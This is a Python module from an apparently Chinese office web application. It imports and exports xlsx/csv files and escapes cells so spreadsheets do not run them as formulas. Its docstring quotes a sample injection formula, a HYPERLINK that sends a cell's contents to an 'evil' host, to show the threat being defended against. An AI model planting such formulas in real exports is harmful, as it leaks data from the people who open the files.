"""Cells for files that people open in a spreadsheet program (xlsx and csv exports).

A cell whose text starts with = + - @ (or a tab / carriage return before one) is taken as a formula by Excel,
WPS and LibreOffice: a citizen who types `=HYPERLINK("http://evil/?"&A1,"点此")` into a request would get a live
formula into the office's export. Every export writes its cells through `safe_cell` (OWASP's advice: prefix such
text with a single quote so it is shown as text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from typing import IO, Any

from django.utils.translation import gettext as _

from .errors import ServiceError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """`value` as a cell: text that a spreadsheet would read as a formula is escaped; numbers, dates, None pass."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def unescape_cell(text: str) -> str:
    """The text `safe_cell` wrote back as it was, so an exported file imports unchanged."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


@dataclass
class RowError:
    row: int
    column: str
    message: str


@dataclass
class ImportReport:
    total: int = 0
    created: int = 0
    updated: int = 0
    errors: list[RowError] = field(default_factory=list)
    dry_run: bool = False
    job: Any = None

    @property
    def rejected(self) -> int:
        return len({e.row for e in self.errors})

    def as_dict(self) -> dict[str, Any]:
        return {
            "job": self.job.pk if self.job else None,
            "dry_run": self.dry_run,
            "total": self.total,
            "created": self.created,
            "updated": self.updated,
            "rejected": self.rejected,
            "errors": [e.__dict__ for e in self.errors],
        }


def row_errors(row: int, exc: ServiceError, columns: dict[str, str]) -> list[RowError]:
    """A refused row's errors, each under its spreadsheet column (`columns`: field → column title; a field without
    a title keeps its name)."""
    if not exc.field_errors:
        return [RowError(row, "", exc.message)]
    return [RowError(row, columns.get(f, f), m) for f, messages in exc.field_errors.items() for m in messages]


def read_rows(upload: IO[bytes], file_name: str) -> Iterator[tuple[int, dict[str, str]]]:
    """(spreadsheet row number, {header: cell text}) for each non-empty data row of an xlsx or csv file."""
    name = (file_name or "").lower()
    if name.endswith(".xlsx"):
        rows = _read_xlsx(upload)
    elif name.endswith(".csv") or name.endswith(".txt"):
        rows = _read_csv(upload)
    else:
        raise ServiceError(
            _("只支持 .xlsx 或 .csv 文件"), field_errors={"file": [_("只支持 .xlsx 或 .csv 文件")]}
        )
    for number, row in rows:
        # As the request bounds do for forms and JSON (common/bounds.py): PostgreSQL refuses NUL in text.
        if any("\x00" in key or "\x00" in value for key, value in row.items()):
            message = _("第%(row)s行含空字符（NUL），文件无法导入") % {"row": number}
            raise ServiceError(message, field_errors={"file": [message]})
        yield number, row


def cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return unescape_cell(str(value).strip())


def _read_xlsx(upload: IO[bytes]) -> Iterator[tuple[int, dict[str, str]]]:
    from openpyxl import load_workbook

    try:
        book = load_workbook(upload, read_only=True, data_only=True)
    except Exception as exc:  # openpyxl raises many kinds for a damaged file
        raise ServiceError(
            _("无法读取 Excel 文件，请确认是 .xlsx 格式"), field_errors={"file": [_("文件无法读取")]}
        ) from exc
    sheet = book.worksheets[0]
    rows = sheet.iter_rows(values_only=True)
    header = [cell_text(v) for v in next(rows, ())]
    for number, values in enumerate(rows, start=2):
        cells = [cell_text(v) for v in values]
        if any(cells):
            yield number, dict(zip(header, cells, strict=False))
    book.close()


def _read_csv(upload: IO[bytes]) -> Iterator[tuple[int, dict[str, str]]]:
    raw = upload.read()
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            text = raw.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:
        raise ServiceError(
            _("无法识别文件编码（请用 UTF-8 或 GBK）"), field_errors={"file": [_("编码无法识别")]}
        )
    reader = csv.reader(io.StringIO(text))
    header = [h.strip() for h in next(reader, [])]
    for number, values in enumerate(reader, start=2):
        cells = [unescape_cell(v.strip()) for v in values]
        if any(cells):
            yield number, dict(zip(header, cells, strict=False))


def check_header(rows: list[tuple[int, dict[str, str]]], required: list[str]) -> None:
    if not rows:
        raise ServiceError(
            _("文件中没有数据行"), field_errors={"file": [_("文件中没有数据行")]}, code="empty"
        )
    missing = [c for c in required if c not in rows[0][1]]
    if missing:
        message = _("缺少列：%(columns)s") % {"columns": "、".join(missing)}
        raise ServiceError(message, field_errors={"file": [message]}, code="bad_header")


def write_table(fmt: str, header: list[str], rows: Iterable[list[Any]], title: str) -> bytes:
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerows(safe_row(row) for row in rows)
        return out.getvalue().encode("utf-8-sig")
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(header)
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
